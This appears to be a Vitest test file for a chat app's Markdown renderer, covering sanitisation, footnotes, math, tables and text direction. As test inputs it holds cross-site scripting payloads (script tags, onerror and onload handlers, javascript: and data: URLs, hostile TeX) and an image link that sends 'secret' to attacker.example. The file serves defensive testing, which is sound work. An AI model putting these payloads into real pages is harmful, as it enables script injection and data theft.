import { act, fireEvent, render, renderHook, screen } from "@testing-library/react";
import type { Root as HastRoot } from "hast";
import rehypeSanitize from "rehype-sanitize";
import { unified } from "unified";
import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { useSteadyNumbers } from "@/components/markdown/footnote-elements";
import { Markdown } from "@/components/markdown/markdown";
import { loadHighlight, loadMath } from "@/components/markdown/markdown-extras";
import { markdownSchema } from "@/components/markdown/sanitize-schema";

beforeAll(async () => {
  await Promise.all([loadMath(), loadHighlight()]);
});

function renderMarkdown(text: string): HTMLElement {
  const { container } = render(<Markdown text={text} />);
  return container;
}

/** Boxes matching `selector` hold content wider than themselves, until the test ends. */
function scrollingSideways(selector: string) {
  const own = Object.getOwnPropertyDescriptor(HTMLElement.prototype, "scrollWidth");
  Object.defineProperty(HTMLElement.prototype, "scrollWidth", {
    configurable: true,
    get(this: HTMLElement) {
      return this.matches(selector) ? this.clientWidth + 200 : this.clientWidth;
    },
  });
  onTestFinished(() => {
    if (own) Object.defineProperty(HTMLElement.prototype, "scrollWidth", own);
    else Reflect.deleteProperty(HTMLElement.prototype, "scrollWidth"); // Element's own again
  });
}

/** Nothing in the output can run code: no script/style/iframe/object, no on* attributes, no js: URLs. */
function expectInert(container: HTMLElement) {
  expect(container.querySelector("script, style, iframe, object, embed, foreignObject")).toBeNull();
  for (const element of container.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      expect(attribute.name.startsWith("on"), `${element.tagName} ${attribute.name}`).toBe(false);
      expect(attribute.value).not.toMatch(/^\s*(javascript|vbscript|data):/i);
    }
  }
}

describe("Markdown sanitising", () => {
  it("shows raw HTML script tags as text, never as elements", () => {
    const container = renderMarkdown('Hello <script>alert("x")</script> world');
    expect(container.querySelector("script")).toBeNull();
    expect(container.textContent).toContain("Hello");
    expect(container.textContent).toContain('<script>alert("x")</script>');
    expectInert(container);
  });

  it("does not create images with onerror handlers from HTML", () => {
    const container = renderMarkdown(
      '<img src="x" onerror="alert(1)">\n\n<svg onload="alert(1)"></svg>',
    );
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("svg")).toBeNull();
    expectInert(container);
  });

  it("drops javascript: links and keeps safe ones opening in a new tab", () => {
    const container = renderMarkdown(
      "[bad](javascript:alert(1)) [also bad](JaVaScRiPt:alert(1)) [data](data:text/html,hi) [good](https://example.com/a) [mail](mailto:a@b.c) [rel](/conversations/x)",
    );
    const links = [...container.querySelectorAll("a")];
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "https://example.com/a",
      "mailto:a@b.c",
    ]);
    for (const link of links) {
      expect(link.getAttribute("target")).toBe("_blank");
      expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    }
    expect(container.textContent).toContain("bad");
    expectInert(container);
  });

  it("turns images into click-to-load placeholders that request nothing", () => {
    const container = renderMarkdown("Look: ![secret](https://attacker.example/?q=secret)");
    expect(container.querySelector("img")).toBeNull();
    const button = screen.getByRole("button", { name: "Load image from attacker.example" });
    fireEvent.click(button);
    const img = container.querySelector("img");
    expect(img?.getAttribute("src")).toBe("https://attacker.example/?q=secret");
    expect(img?.getAttribute("referrerpolicy")).toBe("no-referrer");
  });

  it("never loads javascript: or data: images", () => {
    const container = renderMarkdown(
      "![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg onload=alert(1)>)",
    );
    expect(container.querySelector("img")).toBeNull();
    expect(screen.queryByRole("button", { name: /Load image/ })).toBeNull();
    expectInert(container);
  });

  it("renders math with KaTeX and keeps bad or hostile TeX inert", () => {
    const container = renderMarkdown(
      "Inline $x^2$ and\n\n$$\n\\frac{a}{b}\n$$\n\nBad $\\frac{$ and $\\href{javascript:alert(1)}{click}$ and $\\htmlStyle{color:red}{x}$ and \\(\\sqrt{2}\\)",
    );
    expect(container.querySelectorAll(".katex").length).toBeGreaterThanOrEqual(3);
    expect(container.querySelector(".katex-display")).not.toBeNull();
    expect(container.querySelector("a[href^='javascript']")).toBeNull();
    expectInert(container);
  });

  it("highlights code with a language label and a copy button", () => {
    const container = renderMarkdown("```python\ndef f():\n    return '<script>'\n```");
    expect(container.querySelector(".code-block__lang")?.textContent).toBe("python");
    expect(container.querySelector("code.hljs .hljs-keyword")).not.toBeNull();
    expect(container.querySelector("script")).toBeNull();
    expect(screen.getByRole("button", { name: "Copy code" })).toBeTruthy();
  });

  it("renders GitHub tables and task lists", () => {
    const container = renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo");
    expect(container.querySelectorAll("table td")).toHaveLength(2);
    expect(container.querySelectorAll("input[type=checkbox]")).toHaveLength(2);
  });

  it("re-renders only the block that changed", async () => {
    const { container, rerender } = render(<Markdown text={"First paragraph.\n\nSecond"} />);
    const first = container.querySelector(".markdown p");
    await act(async () => {
      rerender(<Markdown text={"First paragraph.\n\nSecond grows"} />);
    });
    expect(container.querySelector(".markdown p")).toBe(first);
    expect(container.textContent).toContain("Second grows");
  });

  it("renders footnotes: numbered references linking to notes listed last, and back", () => {
    const scrolled: Element[] = [];
    const original = Element.prototype.scrollIntoView; // jsdom has none
    Element.prototype.scrollIntoView = function (this: Element) {
      scrolled.push(this);
    };
    onTestFinished(() => {
      Element.prototype.scrollIntoView = original;
    });
    const container = renderMarkdown(
      "Cats purr[^cats] and `[^cats]` stays code; [^nope] stays text.\n\n" +
        "[^cats]: A **study**, 2024.\n\nMore text after.",
    );
    const reference = container.querySelector("sup.footnote-ref a") as HTMLAnchorElement;
    expect(reference.textContent).toBe("1");
    expect(container.querySelector("code")?.textContent).toBe("[^cats]");
    expect(container.textContent).toContain("[^nope] stays text");
    const notes = container.querySelectorAll("section.footnotes li");
    expect(notes).toHaveLength(1);
    expect(notes[0].querySelector("strong")?.textContent).toBe("study");
    expect(reference.getAttribute("href")).toBe(`#${notes[0].id}`);
    expect(container.querySelector("section.footnotes")).toBe(
      container.lastElementChild?.lastElementChild,
    );
    fireEvent.click(reference);
    expect(scrolled).toEqual([notes[0]]);
    fireEvent.click(screen.getByRole("button", { name: "Back to reference 1" }));
    expect(scrolled[1]).toBe(reference.parentElement);
    expectInert(container);
  });

  it("gives two answers' notes ids of their own", () => {
    const { container } = render(
      <>
        <Markdown text={"A[^1]\n\n[^1]: one"} />
        <Markdown text={"B[^1]\n\n[^1]: two"} />
      </>,
    );
    const ids = [...container.querySelectorAll("section.footnotes li")].map((note) => note.id);
    expect(new Set(ids).size).toBe(2);
  });

  it("never lets markdown write a footnote reference of its own", () => {
    const container = renderMarkdown('<sup data-footnote-ref="1">1</sup> and [^x]');
    expect(container.querySelector("sup")).toBeNull();
    expect(container.textContent).toContain('<sup data-footnote-ref="1">1</sup> and [^x]');
  });

  it("keeps the footnote numbering's identity while the numbering stays the same", () => {
    const { result, rerender } = renderHook(({ numbers }) => useSteadyNumbers(numbers), {
      initialProps: { numbers: new Map([["a", 1]]) as ReadonlyMap<string, number> | null },
    });
    const first = result.current;
    rerender({ numbers: new Map([["a", 1]]) });
    expect(result.current).toBe(first);
    const renumbered = new Map([
      ["b", 1],
      ["a", 2],
    ]);
    rerender({ numbers: renumbered });
    expect(result.current).toBe(renumbered);
  });

  it("jumps back to the note's own reference, and makes none in links or math", () => {
    const scrolled: Element[] = [];
    const original = Element.prototype.scrollIntoView;
    Element.prototype.scrollIntoView = function (this: Element) {
      scrolled.push(this);
    };
    onTestFinished(() => {
      Element.prototype.scrollIntoView = original;
    });
    const container = renderMarkdown(
      "A[^a], [the paper[^b]](https://x.org), $E[^b]$ and B[^b].\n\n[^a]: one\n[^b]: two",
    );
    expect(container.querySelectorAll("a sup, .katex sup")).toHaveLength(0);
    expect(container.querySelectorAll("sup.footnote-ref")).toHaveLength(2);
    fireEvent.click(screen.getByRole("button", { name: "Back to reference 2" }));
    expect(scrolled).toEqual([container.querySelector('sup[data-footnote-ref="2"]')]);
  });
});

describe("Markdown layout", () => {
  it("gives each block the direction of its first letter, so Arabic and Hebrew read right to left", () => {
    const container = renderMarkdown(
      [
        "# عنوان",
        "Hello, world",
        "> ציטוט",
        "- פריט\n- item",
        "1. **أول**",
        "| عمود | col |\n|---|---|\n| خلية | 42 |",
        "Text[^1]\n\n[^1]: הערה",
      ].join("\n\n"),
    );
    const direction = (selector: string) =>
      [...container.querySelectorAll(selector)].map((node) => node.getAttribute("dir"));
    expect(direction("h1")).toEqual(["rtl"]);
    // A quote or list takes its first item's side (`dir="auto"` would skip children with a
    // `dir` of their own, leaving it left to right); an item in another script keeps its own.
    expect(direction("blockquote")).toEqual(["rtl"]);
    expect(direction("ul")).toEqual(["rtl"]);
    expect(direction("ul > li")).toEqual(["rtl", "ltr"]);
    expect(direction("ol > li")[0]).toBe("rtl");
    expect(direction("th")).toEqual(["rtl", "ltr"]);
    expect(direction("td")).toEqual(["rtl", null]); // no letter: the row's direction
    expect(direction("p")[0]).toBe("ltr");
    expect(direction(".footnotes ol")).toEqual(["rtl"]);
    expect(direction(".footnotes li")).toEqual(["rtl"]);
  });

  it("puts a table in a named region; it and a code block are Tab stops only if they scroll", () => {
    // jsdom lays nothing out: every box is as wide as its content.
    renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```");
    const region = screen.getByRole("region", { name: "Table" });
    expect(region.querySelector("table")).toBeTruthy();
    expect(region.hasAttribute("tabindex")).toBe(false);
    expect(document.querySelector(".code-block pre")?.hasAttribute("tabindex")).toBe(false);
  });

  it("makes a table or code block that scrolls sideways a Tab stop, to scroll it by keyboard", () => {
    scrollingSideways(".table-wrap, .code-block pre");
    renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```");
    expect(screen.getByRole("region", { name: "Table" }).tabIndex).toBe(0);
    expect(document.querySelector(".code-block pre")?.getAttribute("tabindex")).toBe("0");
  });
});

describe("markdownSchema", () => {
  it("keeps on a sup only a numeric data-footnote-ref", () => {
    const tree: HastRoot = {
      type: "root",
      children: [
        {
          type: "element",
          tagName: "sup",
          properties: { dataFootnoteRef: "1", className: ["x"], onClick: "alert(1)" },
          children: [],
        },
        {
          type: "element",
          tagName: "sup",
          properties: { dataFootnoteRef: "1 onclick=x" },
          children: [],
        },
      ],
    };
    const clean = unified().use(rehypeSanitize, markdownSchema).runSync(tree) as HastRoot;
    const props = clean.children.map((child) =>
      child.type === "element" ? child.properties : null,
    );
    expect(props).toEqual([{ dataFootnoteRef: "1" }, {}]);
  });
});
